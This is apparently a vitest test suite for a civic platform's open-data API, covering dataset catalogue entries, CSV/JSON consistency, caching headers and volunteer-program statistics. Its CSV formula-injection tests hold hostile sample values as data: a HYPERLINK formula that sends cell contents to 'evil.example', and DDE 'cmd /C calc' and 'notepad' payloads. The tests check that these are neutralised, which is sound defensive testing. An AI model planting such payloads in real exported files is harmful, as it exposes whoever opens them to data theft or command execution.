import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../src/modules/open-data/csv';
import { at, kyivDate, world } from './booking-fixture';
import { act, applyAs, nextEdrpou, verifiedOrg } from './org-fixture';
import {
  createProgram,
  createShift,
  ngoWithProgram,
  ok,
  shiftInput,
  signUp,
  volunteer,
} from './volunteering-fixture';
import {
  buildTestApp,
  createUser,
  expectProblem,
  inject,
  type TestApp,
  type TestUser,
  unique,
} from './helper';

/** What a text cell must read in the CSV: OWASP's apostrophe before a formula's first character. */
const asCsvText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

let t: TestApp;
let admin: TestUser;
beforeAll(async () => {
  t = await buildTestApp();
  admin = await createUser(t, [{ role: 'city_admin' }]);
});

describe('open data: the registry', () => {
  it('is in the catalogue with bilingual texts, a licence, a data dictionary and a last-modified date', async () => {
    const res = await inject(t, { method: 'GET', url: '/api/v1/open-data' });
    expect(res.statusCode).toBe(200);
    const entry = res.json().items.find((d: { id: string }) => d.id === 'organizations');
    expect(entry.title.uk).toMatch(/Реєстр/);
    expect(entry.title.en).toMatch(/Registry/);
    expect(entry.licence.name).toBeTruthy();
    expect(Date.parse(entry.lastModified)).not.toBeNaN();
    expect(entry.downloads).toEqual({
      csv: '/api/v1/open-data/organizations.csv',
      json: '/api/v1/open-data/organizations.json',
      datapackage: '/api/v1/open-data/organizations/datapackage.json',
    });
    const names = entry.fields.map((f: { name: string }) => f.name);
    expect(names.slice(0, 4)).toEqual(['id', 'name_uk', 'name_en', 'legal_form']);
    for (const f of entry.fields) {
      expect(f.type).toBeTruthy();
      expect(f.description.uk).toBeTruthy();
      expect(f.description.en).toBeTruthy();
    }
  });

  it('CSV parses back into the same public records as JSON, with tricky text intact and no private fields', async () => {
    const owner = await createUser(t);
    const tricky = await verifiedOrg(t, owner, admin, {
      nameUk: `ГО "Лапки, хвости" ${unique()}`,
      descriptionUk: 'Рядок перший,\r\nрядок другий з "лапками"; і крапкою з комою',
      activities: ['animal_welfare', 'environment'],
      contacts: {
        email: 'paws@example.org',
        social: ['https://facebook.com/paws', 'https://instagram.com/paws'],
      },
    });
    const hidden = await applyAs(t, owner);
    await act(t, owner, hidden.id, 'submit');

    const csvRes = await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.csv' });
    expect(csvRes.statusCode).toBe(200);
    expect(csvRes.headers['content-type']).toBe('text/csv; charset=utf-8');
    const jsonRes = await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.json' });
    const json = jsonRes.json();

    const rows: Record<string, string>[] = parse(csvRes.body, {
      columns: true,
      bom: false,
      relax_quotes: false,
    });
    const header = csvRes.body.split('\r\n')[0]!.split(',');
    const catalogue = (await inject(t, { method: 'GET', url: '/api/v1/open-data' }))
      .json()
      .items.find((d: { id: string }) => d.id === 'organizations');
    expect(header).toEqual(catalogue.fields.map((f: { name: string }) => f.name));
    expect(rows).toHaveLength(json.records.length);

    const fromCsv = rows.find((r) => r.id === tricky.id)!;
    const fromJson = json.records.find((r: { id: string }) => r.id === tricky.id);
    expect(fromCsv.name_uk).toBe(fromJson.name_uk);
    expect(fromCsv.description_uk).toBe('Рядок перший,\r\nрядок другий з "лапками"; і крапкою з комою');
    expect(fromCsv.activities?.split(';')).toEqual(fromJson.activities);
    expect(fromCsv.social?.split(';')).toEqual(['https://facebook.com/paws', 'https://instagram.com/paws']);
    // Every CSV row equals its JSON record once arrays are joined, nulls are empty and text that
    // a spreadsheet would run as a formula carries its leading apostrophe.
    const flat = (r: Record<string, unknown>) =>
      Object.fromEntries(
        Object.entries(r).map(([k, v]) => [
          k,
          v === null
            ? ''
            : typeof v === 'number'
              ? String(v)
              : asCsvText(Array.isArray(v) ? v.join(';') : String(v)),
        ]),
      );
    for (const record of json.records) expect(rows.find((r) => r.id === record.id)).toEqual(flat(record));

    const ids = rows.map((r) => r.id);
    expect(ids).not.toContain(hidden.id);
    expect(csvRes.body).not.toMatch(/rejection|status_reason|password/i);
    expect(Object.keys(fromJson)).not.toContain('status');
  });

  it('answers ETag and Last-Modified, and 304 when nothing changed', async () => {
    for (const ext of ['csv', 'json']) {
      const url = `/api/v1/open-data/organizations.${ext}`;
      const first = await inject(t, { method: 'GET', url });
      const etag = first.headers.etag as string;
      const lastModified = first.headers['last-modified'] as string;
      expect(etag).toMatch(/^"[^"]+"$/);
      expect(Date.parse(lastModified)).not.toBeNaN();
      const again = await inject(t, { method: 'GET', url, headers: { 'if-none-match': etag } });
      expect(again.statusCode).toBe(304);
      expect(again.body).toBe('');
      const since = await inject(t, { method: 'GET', url, headers: { 'if-modified-since': lastModified } });
      expect(since.statusCode).toBe(304);
      const stale = await inject(t, { method: 'GET', url, headers: { 'if-none-match': '"something-else"' } });
      expect(stale.statusCode).toBe(200);
    }
  });

  it('changes its ETag when an organisation is verified', async () => {
    const before = await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.json' });
    await verifiedOrg(t, await createUser(t), admin);
    const after = await inject(t, {
      method: 'GET',
      url: '/api/v1/open-data/organizations.json',
      headers: { 'if-none-match': before.headers.etag as string },
    });
    expect(after.statusCode).toBe(200);
    expect(after.headers.etag).not.toBe(before.headers.etag);
  });

  it('answers 404 for an unknown dataset', async () => {
    expectProblem(await inject(t, { method: 'GET', url: '/api/v1/open-data/secrets.csv' }), 404, 'not_found');
    expectProblem(
      await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.xml' }),
      404,
      'not_found',
    );
  });
});

describe('open data: CSV cells a spreadsheet would run', () => {
  const parseCsv = (body: string): Record<string, string>[] => parse(body, { columns: true });

  it('organizations.csv neutralises formulas in text and leaves JSON and numbers as they are', async () => {
    const owner = await createUser(t);
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click") ${unique()}`;
    const org = await verifiedOrg(t, owner, admin, {
      nameUk: formula,
      nameEn: `+${unique()} cmd|' /C calc'!A0`,
      address: '-2+3 вул. Тестова, 1',
      descriptionUk: '@SUM(1+1)*cmd',
      descriptionEn: '-1+1 (the registry trims tabs and line breaks from the edges)',
      yearFounded: 2015,
      contacts: { phone: '+380 44 123 45 67', email: 'safe@example.org' },
    });
    const csv = await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.csv' });
    const row = parseCsv(csv.body).find((r) => r.id === org.id)!;
    expect(row).toMatchObject({
      name_uk: `'${formula}`,
      address: "'-2+3 вул. Тестова, 1",
      description_uk: "'@SUM(1+1)*cmd",
      description_en: "'-1+1 (the registry trims tabs and line breaks from the edges)",
      phone: "'+380 44 123 45 67",
      email: 'safe@example.org',
      year_founded: '2015',
    });
    expect(row.name_en).toMatch(/^'\+/);
    // No cell of the whole download starts a formula.
    for (const r of parseCsv(csv.body)) {
      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // JSON is data for programs, not spreadsheets: it keeps the name exactly.
    const json = (await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.json' })).json();
    expect(json.records.find((r: { id: string }) => r.id === org.id).name_uk).toBe(formula);
  });

  it('events.csv neutralises event titles', async () => {
    const w = await world(t);
    const d = kyivDate(33);
    const res = await inject(t, {
      method: 'POST',
      url: '/api/v1/events',
      as: w.manager,
      payload: {
        booking: { roomId: w.roomId, organizationId: w.orgId, start: at(d, '10:00'), end: at(d, '12:00') },
        title: { uk: `=cmd|' /C notepad'!A1 ${unique()}`, en: '@SUM(A1:A9)' },
        category: 'meeting',
        capacity: 12,
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    const csv = await inject(t, { method: 'GET', url: '/api/v1/open-data/events.csv' });
    const row = parseCsv(csv.body).find((r) => r.id === res.json().id)!;
    expect(row.title_uk).toBe(`'${res.json().title.uk}`);
    expect(row.title_en).toBe("'@SUM(A1:A9)");
    expect(row.capacity).toBe('12');
  });

  it('numbers stay numbers, negative ones too; only text is prefixed, tab and carriage return included', () => {
    const body = toCsv(
      ['count', 'latitude', 'longitude', 'label', 'tab', 'cr', 'list', 'plain'],
      [[-3, 50.45, -0.1275, '-3', '\tx', '\r=1', ['@a', 'b'], 'a=b']],
    );
    expect(parseCsv(body)).toEqual([
      {
        count: '-3',
        latitude: '50.45',
        longitude: '-0.1275',
        label: "'-3",
        tab: "'\tx",
        cr: "'\r=1",
        list: "'@a;b",
        plain: 'a=b',
      },
    ]);
  });
});

describe('open data: volunteer programs', () => {
  it('gives each published or closed program’s figures, leaves drafts out and holds no personal data', async () => {
    const { orgId, owner, programId } = await ngoWithProgram(t, { districts: ['obolonskyi', 'podilskyi'] });
    const edrpou = nextEdrpou();
    await t.db.updateTable('organizations').set({ edrpou }).where('id', '=', orgId).execute();
    const d = kyivDate(20);
    const held = await createShift(t, owner, programId, shiftInput(d, '10:00', '11:00', { places: 3 }));
    const planned = await createShift(t, owner, programId, shiftInput(d, '12:00', '14:00', { places: 2 }));
    const cancelled = await createShift(t, owner, programId, shiftInput(d, '15:00', '16:00', { places: 9 }));
    const [v1, v2, v3, v4] = [await volunteer(t), await volunteer(t), await volunteer(t), await volunteer(t)];
    const s1 = await ok(signUp(t, v1, held.id), 201);
    const s2 = await ok(signUp(t, v2, held.id), 201);
    await ok(signUp(t, v3, planned.id), 201);
    await ok(signUp(t, v4, cancelled.id), 201);
    await ok(
      inject(t, {
        method: 'POST',
        url: `/api/v1/volunteering/shifts/${cancelled.id}/cancel`,
        as: owner,
        payload: { reason: 'Негода' },
      }),
    );
    // The first shift took place yesterday; one volunteer came, one did not.
    const yesterday = kyivDate(-1);
    await t.db
      .updateTable('volunteerShifts')
      .set({ startsAt: new Date(at(yesterday, '10:00')), endsAt: new Date(at(yesterday, '11:00')) })
      .where('id', '=', held.id)
      .execute();
    await ok(
      inject(t, {
        method: 'POST',
        url: `/api/v1/volunteering/shifts/${held.id}/attendance`,
        as: owner,
        payload: {
          entries: [
            { signupId: s1.id, present: true },
            { signupId: s2.id, present: false },
          ],
        },
      }),
    );
    const draft = await createProgram(t, owner, { organizationId: orgId });
    const closedOne = await ngoWithProgram(t);
    await ok(
      inject(t, {
        method: 'PATCH',
        url: `/api/v1/volunteering/programs/${closedOne.programId}`,
        as: closedOne.owner,
        payload: { status: 'closed' },
      }),
    );

    const catalogue = (await inject(t, { method: 'GET', url: '/api/v1/open-data' }))
      .json()
      .items.find((x: { id: string }) => x.id === 'volunteer-programs');
    expect(catalogue.title).toEqual({ uk: 'Волонтерські програми', en: 'Volunteer programs' });
    expect(catalogue.downloads.csv).toBe('/api/v1/open-data/volunteer-programs.csv');
    for (const field of catalogue.fields) expect(field.description.en).toBeTruthy();
    const fieldNames = catalogue.fields.map((x: { name: string }) => x.name);

    const json = (
      await inject(t, { method: 'GET', url: '/api/v1/open-data/volunteer-programs.json' })
    ).json();
    const record = json.records.find((r: { id: string }) => r.id === programId);
    expect(record).toMatchObject({
      status: 'published',
      run_by: 'organization',
      organization_id: orgId,
      organization_edrpou: edrpou,
      hub_id: null,
      cause: 'elderly',
      districts: ['obolonskyi', 'podilskyi'],
      shifts_held: 1,
      shifts_planned: 1,
      places_offered: 5,
      signups: 3,
      present: 1,
      approved_minutes: 60,
    });
    expect(Object.keys(record)).toEqual(fieldNames);
    const ids = json.records.map((r: { id: string }) => r.id);
    expect(ids).not.toContain(draft.id);
    expect(json.records.find((r: { id: string }) => r.id === closedOne.programId)).toMatchObject({
      status: 'closed',
      shifts_held: 0,
    });

    const csv = await inject(t, { method: 'GET', url: '/api/v1/open-data/volunteer-programs.csv' });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.split('\r\n')[0]!.split(',')).toEqual(fieldNames);
    const rows: Record<string, string>[] = parse(csv.body, { columns: true });
    expect(rows).toHaveLength(json.records.length);
    expect(rows.find((r) => r.id === programId)).toMatchObject({
      districts: 'obolonskyi;podilskyi',
      signups: '3',
      approved_minutes: '60',
      organization_edrpou: edrpou,
    });
    for (const body of [csv.body, JSON.stringify(json)])
      for (const v of [v1, v2, v3, v4, owner]) {
        expect(body).not.toContain(v.email);
        expect(body).not.toContain(v.id);
      }
  });
});
